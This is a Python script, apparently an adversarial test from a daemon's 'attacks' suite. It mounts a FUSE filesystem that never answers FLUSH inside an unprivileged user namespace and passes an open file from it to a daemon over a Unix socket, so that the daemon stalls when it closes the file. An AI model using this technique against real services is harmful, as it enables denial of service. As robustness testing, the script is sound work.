"""Mounts, in its own user namespace, a FUSE file system that never answers FLUSH, and sends a file of it to a
daemon.

    python3 silent_fuse.py SOCKET    # until it is killed, which ends the file system
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import struct
import sys
import tempfile

from attacks import opening

CLONE_NEWNS, CLONE_NEWUSER, PR_SET_PDEATHSIG = 0x20000, 0x10000000, 1
LOOKUP, GETATTR, OPEN, READ, RELEASE, FLUSH, INIT, FORGET, INTERRUPT, BATCH_FORGET = 1, 3, 14, 15, 18, 25, 26, 2, 36, 42
_FILE, _CONTENT = 2, b"x" * 100
_libc = ctypes.CDLL(None, use_errno=True)


def attributes(node: int) -> bytes:
    size, mode = (len(_CONTENT), 0o100644) if node == _FILE else (0, 0o40755)
    return struct.pack("<QQQQQQIIIIIIIIII", node, size, 1, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve(device: int) -> None:
    while True:
        request = os.read(device, 1 << 20)
        _, operation, unique, node = struct.unpack_from("<IIQQ", request)
        answers = {
            INIT: struct.pack("<IIIIHHIIHHI", 7, 31, 65536, 0, 12, 10, 65536, 1, 32, 0, 0) + b"\0" * 28,
            LOOKUP: struct.pack("<QQQQII", _FILE, 0, 60, 60, 0, 0) + attributes(_FILE),
            GETATTR: struct.pack("<QII", 60, 0, 0) + attributes(node),
            OPEN: struct.pack("<QII", 1, 0, 0),
            READ: _CONTENT,
            RELEASE: b"",
        }
        if operation in (FLUSH, FORGET, INTERRUPT, BATCH_FORGET):
            continue
        data, error = (answers[operation], 0) if operation in answers else (b"", -38)
        os.write(device, struct.pack("<IiQ", 16 + len(data), error, unique) + data)


def mount(folder: str) -> int | None:
    """The FUSE device; None if it is not available."""
    uid, gid = os.getuid(), os.getgid()
    try:
        device = os.open("/dev/fuse", os.O_RDWR)
    except OSError:
        return None
    if _libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return None
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    options = f"fd={device},rootmode=40000,user_id=0,group_id=0".encode()
    return device if _libc.mount(b"silent", folder.encode(), b"fuse", 0, options) == 0 else None


def send_file(folder: str, path: str) -> None:
    """In a process of its own: one that serves a file system and has a file of it open cannot end."""
    _libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
    file = os.open(folder + "/file", os.O_RDONLY)
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    socket.send_fds(connection, [opening(fd=True)], [file])
    signal.pause()


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="silent-") as folder:
        device = mount(folder)
        if device is None:
            return 0
        if os.fork() == 0:
            os.close(device)
            send_file(folder, sys.argv[1])
            os._exit(0)
        serve(device)
    return 0


if __name__ == "__main__":
    sys.exit(main())
